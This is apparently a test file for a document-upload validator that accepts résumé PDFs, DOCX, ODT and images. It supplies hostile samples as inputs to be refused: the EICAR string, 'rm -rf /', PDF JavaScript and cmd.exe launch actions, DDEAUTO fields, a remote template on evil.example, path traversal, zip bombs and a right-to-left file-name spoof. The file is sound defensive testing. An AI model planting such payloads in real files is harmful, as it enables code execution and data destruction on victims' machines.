import { deflateSync } from "node:zlib";
import { strToU8, type Zippable, zipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { attachmentDisposition, cleanName } from "./attachment-names.rules.ts";
import { recognizeFile } from "./file-recognition.rules.ts";

const eicar = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("");
const zip = (files: Zippable): Buffer => Buffer.from(zipSync(files));
const documentXml = strToU8("<w:document><w:t>職務経歴</w:t></w:document>");
const docx = (more: Zippable = {}): Buffer =>
  zip({ "[Content_Types].xml": strToU8("<Types/>"), "word/document.xml": documentXml, ...more });
const odt = (more: Zippable = {}): Buffer =>
  zip({
    mimetype: [strToU8("application/vnd.oasis.opendocument.text"), { level: 0 }],
    "content.xml": strToU8("<office:document-content/>"),
    ...more,
  });
const pdf = (objects = "", after = ""): Buffer =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${objects}\ntrailer\n%%EOF\n${after}`,
    "latin1",
  );
const stream = (head: string, content: string): string => {
  const packed = deflateSync(Buffer.from(content, "latin1")).toString("latin1");
  return `9 0 obj\n<< ${head} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj`;
};
const png = Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), Buffer.from("IHDR")]);
const jpeg = Buffer.from("ffd8ffe000104a464946", "hex");
const encrypted = (bytes: Buffer): Buffer => {
  const copy = Buffer.from(bytes);
  // Bit 0 of the general purpose flags, in every header of an entry.
  for (let at = copy.indexOf("PK\x01\x02"); at >= 0; at = copy.indexOf("PK\x01\x02", at + 1))
    copy[at + 8] = (copy[at + 8] ?? 0) | 1;
  return copy;
};
const lying = (bytes: Buffer): Buffer => {
  const copy = Buffer.from(bytes);
  // Says of its first entry that it unpacks to one byte.
  copy.writeUInt32LE(1, copy.indexOf("PK\x01\x02") + 24);
  return copy;
};

describe("a file that is what its name says", () => {
  it.each([
    ["履歴書.pdf", pdf(), "application/pdf"],
    ["a.PDF", pdf(stream("/Type /ObjStm /N 1", "1 0 << /Type /Page >>")), "application/pdf"],
    ["a.pdf", pdf(stream("/Type /XObject", "nothing but /JS drawn")), "application/pdf"],
    ["職務経歴書.docx", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"],
    [
      "a.docx",
      docx({ "word/media/image1.png": new Uint8Array(png) }),
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ],
    ["a.odt", odt(), "application/vnd.oasis.opendocument.text"],
    ["顔写真.png", png, "image/png"],
    ["a.jpg", jpeg, "image/jpeg"],
    ["a.jpeg", jpeg, "image/jpeg"],
    ["経歴.txt", Buffer.from("\ufeff一行目\r\n\t二行目 <b>"), "text/plain"],
  ])("is taken: %s", async (name, bytes, type) => {
    expect(await recognizeFile(name, bytes)).toEqual({ type });
  });
});

describe("a file that is refused", () => {
  it.each<[what: string, name: string, bytes: Buffer, code: string]>([
    ["nothing", "a.pdf", Buffer.alloc(0), "empty"],
    ["blank text", "a.txt", Buffer.from("\ufeff \n"), "empty"],
    ["a program", "a.pdf", Buffer.from("4d5a9000", "hex"), "type_unknown"],
    ["a program for Linux", "a.txt", Buffer.from("7f454c46", "hex"), "type_unknown"],
    ["a PDF that begins later", "a.pdf", Buffer.concat([Buffer.from("\0\0"), pdf()]), "type_unknown"],
    ["a PDF by a picture's name", "a.png", pdf(), "ending_contradicts"],
    ["a PDF with two endings", "a.pdf.exe", pdf(), "ending_contradicts"],
    ["a PDF without one", "pdf", pdf(), "ending_contradicts"],
    ["a DOCX by a PDF's name", "a.pdf", docx(), "ending_contradicts"],
    ["a script", "a.txt", Buffer.from("#!/bin/sh\nrm -rf /"), "active_content"],
    ["a page", "a.txt", Buffer.from("\ufeff  <!DOCTYPE html><p>"), "active_content"],
    ["a picture with a script", "a.txt", Buffer.from("<svg onload=alert(1)>"), "active_content"],
    ["text in Shift_JIS", "a.txt", Buffer.from([0x97, 0x9a, 0x97, 0xf0]), "type_unknown"],
    ["text with controls", "a.txt", Buffer.from("a\u0000b"), "type_unknown"],
    ["the test string", "a.txt", Buffer.from(eicar), "malware_signature"],
    ["the test string in a PDF", "a.pdf", pdf(`% ${eicar}`), "malware_signature"],
    ["the test string in a PDF, packed", "a.pdf", pdf(stream("/Length 1", eicar)), "malware_signature"],
    ["the test string in a DOCX", "a.docx", docx({ "word/media/x.txt": strToU8(eicar) }), "malware_signature"],
    [
      "a PDF that runs a script",
      "a.pdf",
      pdf("3 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj"),
      "active_content",
    ],
    ["one that hides it", "a.pdf", pdf("3 0 obj << /S /J#61vaScript /J#53 (1) >> endobj"), "active_content"],
    [
      "one that packs it",
      "a.pdf",
      pdf(stream("/Type /ObjStm /N 1", "3 0 << /S /JavaScript /JS (1) >>")),
      "active_content",
    ],
    [
      "one that packs it otherwise",
      "a.pdf",
      pdf("9 0 obj << /Type /ObjStm /Filter /LZWDecode >> stream\nxx\nendstream endobj"),
      "type_unknown",
    ],
    [
      "one that packs it behind a line's end of its own",
      "a.pdf",
      pdf(stream("/Type /ObjStm /N 1", "3 0 << /S /JavaScript >>").replace("stream\n", "stream\r")),
      "active_content",
    ],
    [
      "one that hides the pack behind a comment",
      "a.pdf",
      pdf(`% stream\n${stream("/Type /ObjStm /N 1", "3 0 << /S /JavaScript >>")}`),
      "active_content",
    ],
    [
      "one that hides what it is behind much else",
      "a.pdf",
      pdf(stream(`/Type /ObjStm /N 1 /X (${"x".repeat(9_000)})`, "3 0 << >>")),
      "type_unknown",
    ],
    ["one of a great many streams", "a.pdf", pdf("obj stream\n".repeat(20_000)), "type_unknown"],
    ["a PDF that starts a program", "a.pdf", pdf("3 0 obj << /S /Launch /F (cmd.exe) >> endobj"), "active_content"],
    ["a PDF with a file in it", "a.pdf", pdf("3 0 obj << /Type /EmbeddedFile >> endobj"), "active_content"],
    ["an encrypted PDF", "a.pdf", pdf("trailer << /Encrypt 5 0 R >>"), "type_unknown"],
    ["a PDF that is an archive as well", "a.pdf", Buffer.concat([pdf(), zip({ a: strToU8("x") })]), "active_content"],
    ["a picture that is an archive as well", "a.png", Buffer.concat([png, zip({ a: strToU8("x") })]), "active_content"],
    ["a DOCX with macros", "a.docx", docx({ "word/vbaProject.bin": strToU8("x") }), "active_content"],
    [
      "one that says so alone",
      "a.docx",
      docx({
        "[Content_Types].xml": strToU8(
          '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
      }),
      "active_content",
    ],
    ["a DOCX with an object", "a.docx", docx({ "word/embeddings/oleObject1.bin": strToU8("x") }), "active_content"],
    ["a DOCX with a program", "a.docx", docx({ "word/media/image1.png": strToU8("MZ…") }), "active_content"],
    [
      "a DOCX with a template elsewhere",
      "a.docx",
      docx({
        "word/_rels/settings.xml.rels": strToU8(
          '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
        ),
      }),
      "active_content",
    ],
    [
      "a DOCX that calls programs",
      "a.docx",
      docx({ "word/footer1.xml": strToU8("<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>") }),
      "active_content",
    ],
    [
      "a DOCX that calls them in parts",
      "a.docx",
      docx({ "word/document.xml": strToU8("<w:instrText>DD</w:instrText><w:instrText>E c</w:instrText>") }),
      "active_content",
    ],
    ...(
      [
        ["a macro-enabled document", "word/embeddings/Microsoft_Word.docm", new Uint8Array([1])],
        ["an old document", "word/media/image1.png", new Uint8Array(Buffer.from("d0cf11e0a1b11ae1", "hex"))],
        ["a sheet with macros", "word/embeddings/Sheet.xlsx", zipSync({ "xl/vbaProject.bin": strToU8("x") })],
      ] as const
    ).map(([what, part, content]): [string, string, Buffer, string] => [
      `a DOCX with ${what} in it`,
      "a.docx",
      docx({ [part]: content }),
      "active_content",
    ]),
    ...["/XFA 5 0 R", "/XFA[(template) 5 0 R]", "/X#46A\r\n[ ]"].map((form): [string, string, Buffer, string] => [
      `a PDF with a form that is a program: ${form}`,
      "a.pdf",
      pdf(stream("/Type /ObjStm /N 1", `1 0 << /AcroForm << ${form} >> >>`)),
      "active_content",
    ]),
    ...[
      '<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>',
      "<x:instrText>DDE c</x:instrText>",
      "<w:instrText>&#68;D&#x45; c</w:instrText>",
    ].map((field): [string, string, Buffer, string] => [
      `a DOCX that calls them by ${field}`,
      "a.docx",
      docx({ "word/document.xml": strToU8(`<w:document>${field}</w:document>`) }),
      "active_content",
    ]),
    [
      "a DOCX that does in UTF-16",
      "a.docx",
      docx({ "word/document.xml": new Uint8Array(Buffer.from("<w:instrText>DDE</w:instrText>", "utf16le")) }),
      "active_content",
    ],
    [
      "a DOCX of one long tag",
      "a.docx",
      docx({ "word/_rels/x.rels": strToU8('frame"'.repeat(150_000)), "word/x.xml": strToU8("<!ENTITY") }),
      "active_content",
    ],
    [
      "a DOCX with entities",
      "a.docx",
      docx({ "word/styles.xml": strToU8('<!DOCTYPE x [<!ENTITY a "b">]>') }),
      "active_content",
    ],
    ["an ODT with macros", "a.odt", odt({ "Basic/Standard/Module1.xml": strToU8("x") }), "active_content"],
    ["an ODT with scripts", "a.odt", odt({ "Scripts/python/x.py": strToU8("x") }), "active_content"],
    [
      "an encrypted ODT",
      "a.odt",
      odt({ "META-INF/manifest.xml": strToU8("<manifest:encryption-data/>") }),
      "type_unknown",
    ],
    ["an encrypted archive", "a.docx", encrypted(docx()), "type_unknown"],
    ["an archive that is no document", "a.docx", zip({ "a.txt": strToU8("x") }), "type_unknown"],
    [
      "a spreadsheet",
      "a.docx",
      zip({ "[Content_Types].xml": strToU8("<Types/>"), "xl/workbook.xml": strToU8("x") }),
      "type_unknown",
    ],
    ["half an archive", "a.docx", docx().subarray(0, 60), "type_unknown"],
    ["an archive that climbs", "a.docx", docx({ "../../etc/passwd": strToU8("x") }), "type_unknown"],
    [
      "an archive of thousands",
      "a.docx",
      docx(Object.fromEntries(Array.from({ length: 1_100 }, (_, at) => [`word/${at}.xml`, new Uint8Array(0)]))),
      "type_unknown",
    ],
    ["an archive that grows", "a.docx", docx({ "word/bomb.xml": new Uint8Array(61 * 1024 * 1024) }), "type_unknown"],
    ["one that lies about it", "a.docx", lying(docx()), "type_unknown"],
    ["two parts of one name", "a.docx", docx({ "WORD/document.xml": strToU8("x") }), "type_unknown"],
  ])("%s", async (_, name, bytes, code) => {
    expect(await recognizeFile(name, bytes)).toMatchObject({ refusal: { code } });
  });
});

/** What looking into it takes of the processor, in milliseconds. */
async function costOf(name: string, bytes: Buffer): Promise<number> {
  const before = process.cpuUsage();
  expect(await recognizeFile(name, bytes)).toHaveProperty("type");
  const { user, system } = process.cpuUsage(before);
  return (user + system) / 1000;
}

describe("a file that is made to be looked into for long costs hardly more than another of its size", () => {
  const mega = 1024 * 1024;
  const nulls = (size: number) => deflateSync(Buffer.alloc(size)).toString("latin1");
  const streams = (count: number, size: number): Buffer => {
    const packed = nulls(size);
    return pdf(Array(count).fill(`1 0 obj<</Filter/FlateDecode>>stream\n${packed}\nendstream endobj\n`).join(""));
  };

  it.each<[what: string, name: string, hostile: () => Buffer, harmless: () => Buffer]>([
    ["of streams that are too long", "a.pdf", () => streams(1_000, 5 * mega), () => streams(16, 4 * mega - 10)],
    [
      "of names with escapes",
      "a.pdf",
      () => pdf("/#61#61#61#61#61#61".repeat(500_000)),
      () => pdf("/Contents 100 0 R  ".repeat(500_000)),
    ],
    [
      "of nothing but tags",
      "a.docx",
      () => docx({ "word/a.xml": new Uint8Array(25 * mega).fill(60) }),
      () => docx({ "word/a.xml": new Uint8Array(25 * mega).fill(32) }),
    ],
  ])("%s", async (_, name, hostile, harmless) => {
    await costOf(name, harmless());
    expect(await costOf(name, hostile())).toBeLessThan(4 * (await costOf(name, harmless())) + 50);
  });
});

describe("what a file is called", () => {
  it.each([
    ["履歴書.pdf", "履歴書.pdf"],
    ["../../etc/passwd.txt", "passwd.txt"],
    ["C:\\Users\\見本\\職務経歴書.docx", "職務経歴書.docx"],
    ["cv\u202efdp.exe.pdf", "cvfdp.exe.pdf"],
    ["a\tb<c>.pdf", "ab_c_.pdf"],
    ["ハ\u3099.pdf", "バ.pdf"],
    [".htaccess", null],
    ["...", null],
    ["  .pdf", null],
    [`${"長".repeat(300)}.pdf`, `${"長".repeat(146)}.pdf`],
  ])("%s", (given, kept) => {
    expect(cleanName(given)).toBe(kept);
  });

  it("goes into a header that nothing can break out of", () => {
    expect(attachmentDisposition('履歴"書\r\n.pdf'.replace(/[\r\n]/g, ""))).toBe(
      "attachment; filename=\"____.pdf\"; filename*=UTF-8''%E5%B1%A5%E6%AD%B4%22%E6%9B%B8.pdf",
    );
    expect(attachmentDisposition("it's (1)*.txt")).toContain("filename*=UTF-8''it%27s%20%281%29%2A.txt");
  });
});
